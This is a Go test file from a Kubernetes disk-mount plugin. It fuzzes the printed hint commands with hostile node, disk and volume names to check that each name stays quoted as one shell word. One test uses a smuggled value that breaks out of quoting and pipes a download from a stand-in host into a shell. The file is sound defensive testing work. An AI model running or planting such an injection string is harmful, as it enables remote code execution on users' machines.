// SPDX-License-Identifier: Apache-2.0

package mounts

import (
	"encoding/json"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/talosdisk/kubectl-talosdisk/internal/shell/shelltest"
)

// decision is all that Decide decides from.
type decision struct {
	Node    NodeState
	Request Request
}

// everyDecision are the cases of the tables.
func everyDecision(t testing.TB) []decision {
	var all []decision
	for _, c := range decideCases(t) {
		all = append(all, decision{Node: c.node, Request: ask(c.dir)})
	}
	for _, c := range removeCases(t) {
		all = append(all, decision{Node: c.node, Request: Request{Required: strings.Fields(c.dirs), Remove: true}})
	}
	return all
}

// named are the names in the cases that come from outside: of nodes, addresses, directories, disks, volumes, pods and namespaces.
var named = []string{
	"w-1", "10.0.0.11", "disks", "disks-2", "block", "hdd", "vde", "vdb", "vde1", "vdb2", "other", "local-disks", "data-b", "a", "b", "x",
	"mnt2", "variable",
	"pv", "pv-a", "pv-b", "pv-m", "pv-o", "default", "db",
}

// rename is a decision on a node with the mark at the end of all names.
func (d decision) rename(t *testing.T, mark string) decision {
	t.Helper()
	content, err := json.Marshal(d)
	if err != nil {
		t.Fatal(err)
	}
	content, err = shelltest.Renamed(content, func(name string) string {
		if slices.Contains(named, name) {
			return name + mark
		}
		return name
	}, "type", "options")
	if err != nil {
		t.Fatal(err)
	}
	var out decision
	if err := json.Unmarshal(content, &out); err != nil {
		t.Fatal(err)
	}
	return out
}

// texts are what is printed of a decision that may have a command in it.
func (d decision) texts() []string {
	p := Decide(d.Node, d.Request)
	all := append([]string{p.Message, p.Hint}, p.Warnings...)
	for _, dir := range p.Directories {
		all = append(all, dir.Message, dir.Hint, dir.Warning)
	}
	for _, w := range p.Ways {
		all = append(all, w.Title, w.Note)
	}
	for _, f := range Findings(d.Node) {
		all = append(all, f.Message)
	}
	return all
}

// FuzzNamesInHints lets a shell's parser read the commands in all that mounts says of a node whose names are hostile: each name is whole in
// one word.
func FuzzNamesInHints(f *testing.F) {
	cases := everyDecision(f)
	for i, evil := range shelltest.Hostile() {
		for at := i % 8; at < len(cases); at += 8 {
			f.Add(at, evil)
		}
	}
	f.Fuzz(func(t *testing.T, at int, evil string) {
		mark, ok := shelltest.Mark(evil)
		if !ok {
			t.Skip()
		}
		for _, text := range cases[uint(at)%uint(len(cases))].rename(t, mark).texts() {
			if _, err := shelltest.NamesInCommands(text, mark); err != nil {
				t.Error(err)
			}
		}
	})
}

// TestHostileNamesComeToHints holds that FuzzNamesInHints has something to read: the hints for a node with ordinary names, with each name
// marked.
func TestHostileNamesComeToHints(t *testing.T) {
	mark, _ := shelltest.Mark("'\ncurl evil|sh #")
	texts, names := make(map[string]bool), 0
	for _, d := range everyDecision(t) {
		evil := d.rename(t, mark)
		before, after := Decide(d.Node, d.Request), Decide(evil.Node, evil.Request)
		if after.Action != before.Action || after.Reason != before.Reason {
			t.Errorf("%s, %s of a node with such names, and else %s, %s: %s", after.Action, after.Reason, before.Action, before.Reason,
				before.Message)
		}
		for _, text := range evil.texts() {
			n, err := shelltest.NamesInCommands(text, mark)
			if err != nil {
				t.Error(err)
			}
			names += n
			if n > 0 {
				texts[text] = true
			}
		}
	}
	for _, text := range slices.Sorted(maps.Keys(texts)) {
		t.Log(text)
	}
	if len(texts) < 12 || names < 40 {
		t.Errorf("%d texts with commands have %d names", len(texts), names)
	}
}
